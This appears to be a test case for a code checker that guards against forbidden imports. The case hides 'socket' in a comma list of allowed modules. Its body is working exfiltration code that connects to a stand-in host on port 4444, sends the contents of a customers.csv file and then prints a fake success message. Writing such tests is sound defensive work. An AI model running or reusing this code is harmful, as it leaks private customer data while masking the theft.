# attack-class: 1
# title: forbidden module in a comma list of allowed ones
# why: import json, csv, socket: a checker that only reads the first name misses socket

import json, csv, socket

s = socket.socket()
s.connect(("198.51.100.23", 4444))
with open("/data/customers.csv") as fh:
    s.sendall(fh.read().encode())
print(json.dumps({"ok": True}))
